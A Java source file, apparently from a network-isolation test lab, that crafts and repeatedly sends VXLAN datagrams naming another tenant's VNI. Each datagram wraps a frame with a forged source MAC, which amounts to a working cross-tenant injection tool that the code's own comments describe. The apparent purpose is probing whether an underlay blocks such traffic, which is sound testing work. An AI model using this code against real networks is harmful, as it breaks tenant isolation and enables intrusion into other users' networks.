package io.hyperplane.lab.probe;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.hyperplane.packet.Checksums;
import io.hyperplane.packet.EthernetHeader;
import io.hyperplane.packet.Ipv4Header;
import io.hyperplane.packet.UdpHeader;
import io.hyperplane.packet.VxlanHeader;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * An injection attempt, as a hostile tenant would make it with an ordinary UDP socket (no
 * privilege needed): a VXLAN datagram (RFC 7348) whose header names a network that is not the
 * sender's, wrapping a complete Ethernet/IPv4/UDP frame addressed to a host in that network.
 * <pre>
 *   outer UDP (the kernel's, to TARGET:4789)
 *   └ VXLAN: I flag, VNI
 *     └ Ethernet: dst MAC, src MAC, type IPv4
 *       └ IPv4: src, dst (header checksum valid)   └ UDP: src port, dst port (checksum valid)   └ TEXT
 * </pre>
 * Where a VXLAN socket takes it, the inner frame enters that VNI's network as if the VTEP had
 * sent it; a sealed underlay never lets it get that far.
 */
final class CraftedVxlan {
    /** A locally administered unicast MAC: what a tenant would make up as its inner source. */
    private static final long FORGED_SOURCE_MAC = 0x02_66_6f_72_67_65L;
    /** An ephemeral port, as a client's would be. */
    private static final int INNER_SOURCE_PORT = 40000;
    private static final int TTL = 64;

    private CraftedVxlan() {
    }

    /** The VXLAN payload: header, then the inner frame carrying {@code payload}. */
    static byte[] frame(int vni, long destinationMac, int innerSource, int innerDestination, int destinationPort, byte[] payload) {
        int udpLength = UdpHeader.LENGTH + payload.length;
        int ipLength = Ipv4Header.MIN_LENGTH + udpLength;
        int ipOffset = VxlanHeader.LENGTH + EthernetHeader.LENGTH;
        int udpOffset = ipOffset + Ipv4Header.MIN_LENGTH;
        ByteBuffer buffer = ByteBuffer.allocate(udpOffset + udpLength);
        new VxlanHeader().wrap(buffer, 0).set(vni);
        new EthernetHeader().wrap(buffer, VxlanHeader.LENGTH).destination(destinationMac).source(FORGED_SOURCE_MAC).type(EthernetHeader.TYPE_IPV4);
        Ipv4Header ip = new Ipv4Header().wrap(buffer, ipOffset).set(ipLength, 1, TTL, Ipv4Header.PROTOCOL_UDP, innerSource, innerDestination);
        UdpHeader udp = new UdpHeader().wrap(buffer, udpOffset).set(INNER_SOURCE_PORT, destinationPort, udpLength);
        buffer.put(udpOffset + UdpHeader.LENGTH, payload);
        int checksum = Checksums.transport(ip, udpOffset, udpLength);
        udp.checksum(checksum == 0 ? 0xffff : checksum); // a computed zero is sent as all ones (RFC 768)
        return buffer.array();
    }

    /** Sends the crafted datagram to each target, {@code rounds} times over; reports how many left and why any did not. */
    static ObjectNode send(List<InetSocketAddress> targets, byte[] frame, int rounds) {
        long sent = 0;
        Map<String, Integer> errors = new TreeMap<>();
        try (DatagramSocket socket = new DatagramSocket()) {
            for (int round = 0; round < rounds; round++) {
                for (InetSocketAddress target : targets) {
                    try {
                        socket.send(new DatagramPacket(frame, frame.length, target));
                        sent++;
                    } catch (IOException e) {
                        errors.merge(Failures.classify(e), 1, Integer::sum);
                    }
                }
            }
        } catch (IOException e) {
            return SimpleProbes.failed(e).put("sent", sent);
        }
        ObjectNode result = SimpleProbes.ok().put("sent", sent);
        errors.forEach(result.putObject("errors")::put);
        return result;
    }
}
